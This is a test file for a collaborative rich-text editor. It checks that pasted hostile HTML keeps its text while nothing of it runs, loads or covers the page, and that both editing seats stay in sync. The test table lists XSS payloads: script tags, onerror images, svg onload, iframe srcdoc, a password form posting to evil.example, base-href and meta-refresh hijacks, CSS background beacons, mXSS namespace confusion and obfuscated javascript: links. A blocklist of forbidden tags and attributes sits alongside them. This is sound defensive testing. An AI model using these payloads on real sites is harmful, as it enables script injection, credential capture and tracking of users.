// @vitest-environment jsdom
/** Pasted hostile pages keep their text, and nothing of them runs, loads or covers the page, locally or remotely. */
import { expect, test } from 'vitest';
import { TEXT_ROOT } from '#contract/document-schema.ts';
import { lintUpdate } from '#contract/lint-update.ts';
import { paste, typeText, type Seat } from '../../../../support/editors.ts';
import { jana, petr, seatTwo } from '../../../../support/two-seats.ts';

seatTwo();

const FORBIDDEN =
  'script, iframe, object, embed, form, base, meta, link, math, style, video, audio, template, frame';

/** Drawn attributes that run code, load resources or link. */
const badAttributes = ({ editor }: Seat): string[] =>
  [...editor.view.dom.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes]
      .filter(
        ({ name, value }) =>
          /^(on|srcdoc|formaction|ping|xlink)/.test(name) || /javascript:|data:|evil/.test(value),
      )
      .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  );

const shared = ({ doc }: Seat): string => doc.getXmlFragment(TEXT_ROOT).toJSON();

test.each([
  ['a script', '<p>words</p><script>alarm()</script>'],
  ['an image that fails', '<p>words<img src="x" onerror="alarm()"></p>'],
  [
    'a drawing that loads',
    '<p>words</p><svg onload="alarm()"><script>alarm()</script><a xlink:href="javascript:alarm()"><text>x</text></a></svg>',
  ],
  [
    'a nested page',
    '<p>words</p><iframe srcdoc="<script>parent.alarm()</script>"></iframe><iframe src="javascript:parent.alarm()"></iframe>',
  ],
  [
    'a form',
    '<form action="https://evil.example/"><p>words</p><input name="password" autofocus onfocus="alarm()"><button formaction="javascript:alarm()">x</button></form>',
  ],
  [
    'a base address and a redirect',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alarm()"><p>words <a href="a">x</a></p>',
  ],
  [
    'styles that cover the page',
    '<style>*{background:url(https://evil.example/)}</style><p style="position:fixed;inset:0;background:url(https://evil.example/)">words</p>',
  ],
  [
    'namespace confusion',
    '<math><mtext><table><mglyph><style><img src=x onerror=alarm()></style></mglyph></table></mtext></math><p>words</p>',
  ],
  [
    'a template',
    '<template><img src=x onerror=alarm()></template><p>words</p><details open ontoggle="alarm()"><summary>x</summary></details>',
  ],
  [
    'an obfuscated address',
    '<p>words <a href="java&#10;script:alarm()">a</a> <a href="&#1;javascript:alarm()">b</a> <a href="data:text/html,<script>alarm()</script>">c</a> <a href="vbscript:alarm()">d</a></p>',
  ],
  [
    'a forged node of our own',
    '<p data-pm-slice="0 0 []">words<span data-type="mention" data-id="&quot; onclick=&quot;alarm()" data-label="<img src=x onerror=alarm()>"></span></p>',
  ],
  [
    'a tracking image',
    '<p>words<img src="https://evil.example/pixel.gif"><img data-src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x"></p>',
  ],
  // Browsers themselves nest at most 512 elements.
  ['deeply nested elements', `<p>words</p>${'<div>'.repeat(500)}deep`],
])('%s', (_what, html) => {
  paste(jana, { html, text: 'words' });
  for (const seat of [jana, petr]) {
    expect(seat.editor.view.dom.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    expect(badAttributes(seat)).toEqual([]);
    expect(seat.editor.getText()).toContain('words');
  }
  expect(shared(jana)).not.toMatch(/javascript|evil|url\(/);
  typeText(petr, 'still here ');
  expect(jana.editor.getText()).toContain('still here');
  expect(shared(jana)).toBe(shared(petr));
});

test('a hostile paste results only in updates that the log accepts', () => {
  let refused = 0;
  jana.doc.on('update', (update: Uint8Array) => (refused += Number(!lintUpdate(update).ok)));
  paste(jana, {
    html: `<p>words</p><table><td colspan="1000000" rowspan="-5">x</td></table><ol start="1e12"><li>y</li></ol>`,
  });
  expect(jana.editor.getText()).toContain('words');
  expect(refused).toBe(0);
});
